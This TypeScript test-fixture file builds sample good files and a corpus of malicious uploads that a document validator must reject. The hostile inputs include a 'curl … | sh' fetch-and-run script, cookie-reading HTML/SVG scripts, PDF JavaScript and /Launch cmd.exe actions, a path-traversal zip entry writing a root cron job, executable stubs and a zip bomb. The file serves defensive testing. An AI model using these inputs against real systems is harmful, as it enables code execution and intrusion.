/** An MP4: ftyp (isom), an empty movie (moov with mvhd, no tracks) and a free box. */
export function sampleMp4(options: { majorBrand?: string } = {}): Buffer {
  const brand = options.majorBrand ?? 'isom';
  const ftyp = box(
    'ftyp',
    Buffer.concat([latin1(brand), u32be(0x200), latin1('isomiso2avc1mp41')]),
  );
  const identity = [0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000];
  const mvhd = box(
    'mvhd',
    Buffer.concat([
      u32be(0), // version and flags
      u32be(0), // creation time
      u32be(0), // modification time
      u32be(1000), // timescale
      u32be(0), // duration
      u32be(0x10000), // rate 1.0
      Buffer.from([1, 0]), // volume 1.0
      Buffer.alloc(10),
      ...identity.map(u32be),
      Buffer.alloc(24),
      u32be(1), // next track id
    ]),
  );
  return Buffer.concat([ftyp, box('moov', mvhd), box('free', Buffer.alloc(0))]);
}

// ---------------------------------------------------------------------------------------------
// Good samples by extension

/** One good sample per allowed extension. */
export const GOOD_SAMPLES = {
  '.pdf': samplePdf,
  '.docx': sampleDocx,
  '.pptx': samplePptx,
  '.xlsx': sampleXlsx,
  '.doc': sampleDoc,
  '.ppt': samplePpt,
  '.xls': sampleXls,
  '.jpg': sampleJpg,
  '.png': samplePng,
  '.mp4': sampleMp4,
} as const;

// ---------------------------------------------------------------------------------------------
// The bad-upload corpus

/** A file that must be refused, the reason code, and which check must refuse it. */
export interface BadUpload {
  /** What the file is, for test names. */
  label: string;
  fileName: string;
  bytes: () => Buffer;
  /** The `document.*` reason expected. */
  code: string;
  /** name: validateUploadFileName; content: inspectDocument; size: receiveUpload. */
  stage: 'name' | 'content' | 'size';
  /** For size refusals: the limit, and the Content-Length to declare (if any). */
  maxBytes?: number;
  declaredLength?: number;
}

const PE_STUB = () =>
  Buffer.concat([
    latin1('MZ\x90\x00\x03\x00\x00\x00'),
    Buffer.alloc(52),
    u32le(64),
    latin1('PE\0\0'),
    Buffer.alloc(400),
  ]);
const ELF_STUB = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const MACHO_STUB = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(200)]);
const HTML = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';

/**
 * At least 30 bad uploads (QUALITY R9), each with the one reason it must be refused for.
 * Bytes are built lazily; the largest is about 600 KB.
 */
export function badUploads(): BadUpload[] {
  const name = (label: string, fileName: string, code: string): BadUpload => ({
    label,
    fileName,
    bytes: samplePdf,
    code,
    stage: 'name',
  });
  const content = (
    label: string,
    fileName: string,
    code: string,
    bytes: () => Buffer,
  ): BadUpload => ({ label, fileName, bytes, code, stage: 'content' });

  const docx = sampleDocx;
  return [
    // Names
    name('double extension .exe.pdf', 'deck.exe.pdf', 'document.doubleExtension'),
    name('double extension .svg.png', 'photo.svg.png', 'document.doubleExtension'),
    name('double extension .html.pdf', 'a.html.pdf', 'document.doubleExtension'),
    name('NUL in the name', 'deck\0.pdf', 'document.badName'),
    name('right-to-left override in the name', 'deck\u202excod.pdf', 'document.badName'),
    name('only an .exe extension', '.exe', 'document.extensionNotAllowed'),
    name('no extension', 'deck', 'document.extensionNotAllowed'),
    name('macro-enabled .docm', 'brief.docm', 'document.extensionNotAllowed'),
    name('macro-enabled .pptm', 'deck.pptm', 'document.extensionNotAllowed'),
    name('trailing dot', 'deck.pdf.', 'document.nameTrailing'),
    name('trailing space', 'deck.pdf ', 'document.nameTrailing'),
    name('Windows path in the name', 'C:\\Users\\me\\deck.pdf', 'document.badName'),
    name('relative path in the name', '../../deck.pdf', 'document.badName'),
    name('300-byte name', `${'a'.repeat(296)}.pdf`, 'document.nameTooLong'),
    name('empty name', '', 'document.nameRequired'),
    name('Windows device name', 'con.pdf', 'document.badName'),

    // Programs and markup
    content('Windows executable as .pdf', 'report.pdf', 'document.executable', PE_STUB),
    content('ELF executable as .docx', 'brief.docx', 'document.executable', ELF_STUB),
    content('Mach-O executable as .pdf', 'brief.pdf', 'document.executable', MACHO_STUB),
    content('shell script as .pptx', 'deck.pptx', 'document.executable', () =>
      latin1('#!/bin/sh\ncurl https://example.invalid/x | sh\n'),
    ),
    content('HTML as .pdf', 'one-pager.pdf', 'document.executable', () => latin1(HTML)),
    content('HTML with BOM and whitespace as .pdf', 'one-pager.pdf', 'document.executable', () =>
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), latin1(`\r\n  ${HTML}`)]),
    ),
    content('SVG as .pdf', 'diagram.pdf', 'document.executable', () => latin1(SVG)),
    content('SVG as .png', 'diagram.png', 'document.executable', () => latin1(SVG)),
    content('XML as .docx', 'brief.docx', 'document.executable', () =>
      latin1(`<?xml version="1.0"?><w:document xmlns:w="${NS_W}"/>`),
    ),

    // PDF
    content('PDF with an OpenAction script', 'one-pager.pdf', 'document.activeContent', () =>
      samplePdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }),
    ),
    content('PDF with a hex-escaped /J#61vaScript', 'one-pager.pdf', 'document.activeContent', () =>
      samplePdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /JS 9 0 R >> ' }),
    ),
    content(
      'PDF with a script inside an object stream',
      'one-pager.pdf',
      'document.activeContent',
      () => samplePdfWithObjectStream('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '),
    ),
    content('PDF with a /Launch action', 'one-pager.pdf', 'document.activeContent', () =>
      samplePdf({ catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
    ),
    content('PDF with an embedded file', 'one-pager.pdf', 'document.activeContent', () =>
      buildPdf([
        ...pdfPageObjects('/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> '),
        pdfStream('', PAGE_CONTENT),
        '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', PE_STUB()),
      ]),
    ),
    content('PDF without %%EOF', 'one-pager.pdf', 'document.corrupt', () => {
      const pdf = samplePdf();
      return pdf.subarray(0, pdf.lastIndexOf('%%EOF'));
    }),
    content('PDF renamed .docx', 'brief.docx', 'document.contentMismatch', samplePdf),

    // Office Open XML
    content('.docm renamed .docx', 'brief.docx', 'document.macros', () =>
      buildOoxml('docx', { mainContentType: OOXML_MAIN_CONTENT_TYPES.docm }),
    ),
    content('.pptx with vbaProject.bin', 'deck.pptx', 'document.macros', () =>
      buildOoxml('pptx', {
        extraParts: [{ name: 'ppt/vbaProject.bin', data: Buffer.alloc(512, 1) }],
      }),
    ),
    content('.xlsx with an ActiveX control', 'sheet.xlsx', 'document.macros', () =>
      buildOoxml('xlsx', {
        extraParts: [
          {
            name: 'xl/activeX/activeX1.xml',
            contentType: 'application/vnd.ms-office.activeX+xml',
            data: `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`,
          },
        ],
      }),
    ),
    content('.docx renamed .pptx', 'deck.pptx', 'document.contentMismatch', docx),
    content('plain zip as .xlsx', 'sheet.xlsx', 'document.contentMismatch', () =>
      buildZip([{ name: 'readme.txt', data: 'hello' }]),
    ),
    content('jar as .docx', 'brief.docx', 'document.contentMismatch', () =>
      buildZip([
        { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\r\nMain-Class: Main\r\n' },
        {
          name: 'Main.class',
          data: Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(64)]),
        },
      ]),
    ),
    content('zip bomb by ratio', 'brief.docx', 'document.zipBomb', () =>
      buildOoxml('docx', {
        extraParts: [{ name: 'word/media/padding.bin', data: Buffer.alloc(20 * MIB) }],
      }),
    ),
    content('zip with too many entries', 'sheet.xlsx', 'document.zipTooManyEntries', () =>
      buildOoxml('xlsx', {
        method: 'store',
        extraParts: Array.from({ length: 5001 }, (_, i) => ({ name: `xl/x/${i}.xml`, data: '' })),
      }),
    ),
    content('zip declaring 600 MB uncompressed', 'deck.pptx', 'document.zipTooLarge', () => {
      const entries: ZipEntrySpec[] = [
        { name: '[Content_Types].xml', data: '<Types/>' },
        {
          name: 'ppt/media/video.bin',
          data: Buffer.alloc(1024),
          declaredUncompressedSize: 600 * MIB,
        },
      ];
      return buildZip(entries);
    }),
    content('zip with a ../ entry', 'brief.docx', 'document.zipUnsafePath', () =>
      buildOoxml('docx', {
        extraParts: [{ name: '../../etc/cron.d/x', data: '* * * * * root sh' }],
      }),
    ),
    content('zip with an absolute entry path', 'brief.docx', 'document.zipUnsafePath', () =>
      buildOoxml('docx', { extraParts: [{ name: '/tmp/x.sh', data: 'sh' }] }),
    ),
    content('zip with an encrypted entry', 'brief.docx', 'document.encrypted', () =>
      buildZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: 'secret', flags: 0x1 },
      ]),
    ),
    content('truncated zip without its end record', 'brief.docx', 'document.corrupt', () => {
      const zip = docx();
      return zip.subarray(0, zip.length - 30);
    }),
    content('password-protected .docx (EncryptedPackage)', 'brief.docx', 'document.encrypted', () =>
      buildCompoundFile([
        { name: 'EncryptionInfo', data: Buffer.alloc(200) },
        { name: 'EncryptedPackage', data: Buffer.alloc(5000, 7) },
      ]),
    ),

    // Compound files
    content('.doc with a Macros storage', 'brief.doc', 'document.macros', () =>
      buildCompoundFile([
        { name: 'WordDocument', data: wordDocumentStream() },
        { name: '1Table', data: Buffer.alloc(512) },
        {
          name: 'Macros',
          children: [
            { name: 'VBA', children: [{ name: 'dir', data: Buffer.alloc(100) }] },
            { name: 'PROJECT', data: Buffer.alloc(100) },
          ],
        },
      ]),
    ),
    content('.xls with _VBA_PROJECT_CUR', 'sheet.xls', 'document.macros', () =>
      buildCompoundFile([
        { name: 'Workbook', data: workbookStream() },
        { name: '_VBA_PROJECT_CUR', children: [{ name: 'PROJECT', data: Buffer.alloc(100) }] },
      ]),
    ),
    content('.xls with an Excel 4.0 macro sheet', 'sheet.xls', 'document.macros', () =>
      buildCompoundFile([{ name: 'Workbook', data: workbookStream({ sheetType: 1 }) }]),
    ),
    content('.ppt with a VBA project', 'deck.ppt', 'document.macros', () =>
      buildCompoundFile([
        { name: 'PowerPoint Document', data: powerPointStream({ vba: true }) },
        { name: 'Current User', data: Buffer.alloc(64) },
      ]),
    ),
    content('.xls without a Workbook stream', 'sheet.xls', 'document.contentMismatch', () =>
      buildCompoundFile([summaryInformation(), { name: 'Data', data: Buffer.alloc(300) }]),
    ),
    content('.doc renamed .ppt', 'deck.ppt', 'document.contentMismatch', sampleDoc),
    content('.docx renamed .doc', 'brief.doc', 'document.contentMismatch', docx),

    // Empty files
    ...(['pdf', 'docx', 'ppt', 'png', 'mp4'] as const).map((ext) =>
      content(`zero-byte .${ext}`, `empty.${ext}`, 'document.empty', () => Buffer.alloc(0)),
    ),

    // Images and video
    content('PNG renamed .jpg', 'photo.jpg', 'document.contentMismatch', samplePng),
    content('GIF renamed .png', 'photo.png', 'document.contentMismatch', sampleGif),
    content('JPEG with a zip appended', 'photo.jpg', 'document.corrupt', () =>
      Buffer.concat([sampleJpg(), docx()]),
    ),
    content('MP4 without ftyp', 'demo.mp4', 'document.contentMismatch', () =>
      sampleMp4().subarray(32),
    ),
    content('HEIC image renamed .mp4', 'demo.mp4', 'document.contentMismatch', () =>
      sampleMp4({ majorBrand: 'heic' }),
    ),

    // Size
    {
      label: 'oversize body with Content-Length',
      fileName: 'deck.pdf',
      bytes: () => Buffer.alloc(2 * MIB),
      code: 'document.tooLarge',
      stage: 'size',
      maxBytes: MIB,
      declaredLength: 2 * MIB,
    },
    {
      label: 'oversize stream without Content-Length',
      fileName: 'deck.pdf',
      bytes: () => Buffer.concat([samplePdf(), Buffer.alloc(MIB + 1)]),
      code: 'document.tooLarge',
      stage: 'size',
      maxBytes: MIB,
    },
    {
      label: 'stream longer than its Content-Length claims',
      fileName: 'deck.pdf',
      bytes: () => Buffer.alloc(2 * MIB),
      code: 'document.tooLarge',
      stage: 'size',
      maxBytes: MIB,
      declaredLength: 1000,
    },
  ];
}
